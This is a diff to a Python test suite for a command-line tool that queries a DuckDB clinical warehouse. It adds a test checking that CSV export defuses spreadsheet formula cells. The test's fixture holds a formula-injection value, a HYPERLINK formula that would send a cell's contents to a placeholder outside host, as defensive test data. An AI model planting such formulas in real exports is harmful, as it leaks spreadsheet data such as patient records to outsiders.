@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 import subprocess
@@ -404,6 +406,20 @@ def test_cli_sync_then_query_prints_rows(lake, tmp_path, capsys):
     assert first == {"patient_id": "P1", "news2_score_max": 1, "risk_level": "low"}
     assert main(["query", "SELECT nope FROM nowhere", "--warehouse", path]) == 1
     assert "nowhere" in capsys.readouterr().err
+
+
+def test_cli_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path, capsys):
+    path = str(tmp_path / "csv.duckdb")
+    with DuckWarehouse(path) as wh:
+        wh.ensure()
+    sql = (
+        "SELECT * FROM (VALUES ('=HYPERLINK(\"http://x.example/?\"&A1,\"open\")', -5, 'P1'),"
+        " ('+1+1', 2, '@SUM(A1)'), ('-2', NULL, 'ok')) AS t(ward, n, bed)"
+    )
+    assert main(["query", sql, "--warehouse", path, "--format", "csv"]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[1] == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "-5", "P1"]  # a number stays a number
+    assert rows[2] == ["'+1+1", "2", "'@SUM(A1)"] and rows[3] == ["'-2", "", "ok"]
 
 
 def test_cli_views_prints_bigquery_ddl(capsys):
